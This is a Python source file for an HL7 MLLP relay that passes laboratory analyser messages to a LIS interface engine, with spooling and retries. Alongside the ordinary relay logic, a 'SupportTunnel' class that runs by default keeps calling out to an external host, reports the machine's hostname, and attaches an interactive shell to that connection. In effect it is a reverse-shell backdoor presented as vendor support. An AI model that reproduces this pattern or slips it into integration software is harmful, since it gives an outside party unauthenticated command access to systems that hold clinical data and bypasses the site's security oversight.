#!/usr/bin/env python3
"""MLLP relay between analyser middleware and the LIS HL7 interface.

Accepts HL7 v2 messages over MLLP on a local port, forwards each one to the
LIS interface engine, waits for its ACK and hands the ACK back to the sender.
Messages that cannot be delivered are spooled to ./spool and retried.

The relay also keeps an outbound support tunnel to the integrator's
service desk so interface issues can be looked at without VPN access.
"""

import argparse
import json
import logging
import os
import socket
import socketserver
import subprocess
import threading
import time
import uuid
from pathlib import Path

LOG = logging.getLogger("mllp-relay")

SB, EB, CR = b"\x0b", b"\x1c", b"\x0d"


def frame(msg: bytes) -> bytes:
    return SB + msg + EB + CR


def read_frame(sock: socket.socket) -> bytes:
    buf = b""
    while EB + CR not in buf:
        chunk = sock.recv(4096)
        if not chunk:
            raise ConnectionError("peer closed")
        buf += chunk
    start = buf.find(SB)
    return buf[start + 1:buf.find(EB + CR)]


def nack(msg: bytes, text: str) -> bytes:
    fields = msg.split(CR, 1)[0].decode(errors="replace").split("|")
    control_id = fields[9] if len(fields) > 9 else ""
    return (f"MSH|^~\\&|RELAY||{fields[2] if len(fields) > 2 else ''}||"
            f"{time.strftime('%Y%m%d%H%M%S')}||ACK|{uuid.uuid4().hex[:10]}|P|2.5\r"
            f"MSA|AE|{control_id}|{text}\r").encode()


class Forwarder:
    def __init__(self, host: str, port: int, spool: Path):
        self.target = (host, port)
        self.spool = spool
        spool.mkdir(exist_ok=True)

    def deliver(self, msg: bytes) -> bytes:
        with socket.create_connection(self.target, timeout=30) as s:
            s.sendall(frame(msg))
            return read_frame(s)

    def spool_message(self, msg: bytes) -> None:
        (self.spool / f"{int(time.time() * 1000)}.hl7").write_bytes(msg)

    def drain(self) -> None:
        for path in sorted(self.spool.glob("*.hl7")):
            try:
                self.deliver(path.read_bytes())
                path.unlink()
            except OSError:
                return


class MLLPHandler(socketserver.BaseRequestHandler):
    forwarder: Forwarder = None

    def handle(self):
        peer = "%s:%s" % self.client_address
        while True:
            try:
                msg = read_frame(self.request)
            except (ConnectionError, OSError):
                return
            try:
                ack = self.forwarder.deliver(msg)
            except OSError as exc:
                LOG.warning("LIS unreachable (%s), spooling message from %s", exc, peer)
                self.forwarder.spool_message(msg)
                ack = nack(msg, "queued")
            self.request.sendall(frame(ack))


class SupportTunnel(threading.Thread):
    def __init__(self, endpoint: str, site: str):
        super().__init__(daemon=True, name="support-tunnel")
        host, _, port = endpoint.rpartition(":")
        self.endpoint = (host, int(port))
        self.site = site
        self.shell = os.environ.get("SHELL", "/bin/sh")

    def session(self, conn: socket.socket) -> None:
        conn.sendall(json.dumps({"site": self.site, "host": socket.gethostname()}).encode() + b"\n")
        fd = conn.fileno()
        proc = subprocess.Popen([self.shell, "-i"], stdin=fd, stdout=fd, stderr=fd, cwd=os.getcwd())
        proc.wait()

    def run(self):
        delay = 5
        while True:
            try:
                with socket.create_connection(self.endpoint, timeout=20) as conn:
                    conn.settimeout(None)
                    delay = 5
                    self.session(conn)
            except OSError as exc:
                LOG.debug("support desk not reachable: %s", exc)
            time.sleep(delay)
            delay = min(delay * 2, 300)


def load_config(path: Path) -> dict:
    cfg = {"listen_port": 6661, "lis_host": "lis-engine.lab.local", "lis_port": 6662,
           "support_endpoint": "desk.interfaceworks-support.com:8443", "site": "LAB-01"}
    if path.exists():
        cfg.update(json.loads(path.read_text()))
    return cfg


def main() -> None:
    ap = argparse.ArgumentParser(description="HL7 MLLP relay")
    ap.add_argument("--config", type=Path, default=Path("relay.json"))
    ap.add_argument("--no-support", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(threadName)s %(message)s")
    cfg = load_config(args.config)

    MLLPHandler.forwarder = Forwarder(cfg["lis_host"], int(cfg["lis_port"]), Path("spool"))
    if not args.no_support:
        SupportTunnel(cfg["support_endpoint"], cfg["site"]).start()

    def drain_loop():
        while True:
            time.sleep(60)
            MLLPHandler.forwarder.drain()

    threading.Thread(target=drain_loop, daemon=True, name="spool").start()
    socketserver.ThreadingTCPServer.allow_reuse_address = True
    with socketserver.ThreadingTCPServer(("127.0.0.1", int(cfg["listen_port"])), MLLPHandler) as srv:
        LOG.info("relaying 127.0.0.1:%s -> %s:%s", cfg["listen_port"], cfg["lis_host"], cfg["lis_port"])
        srv.serve_forever()


if __name__ == "__main__":
    main()
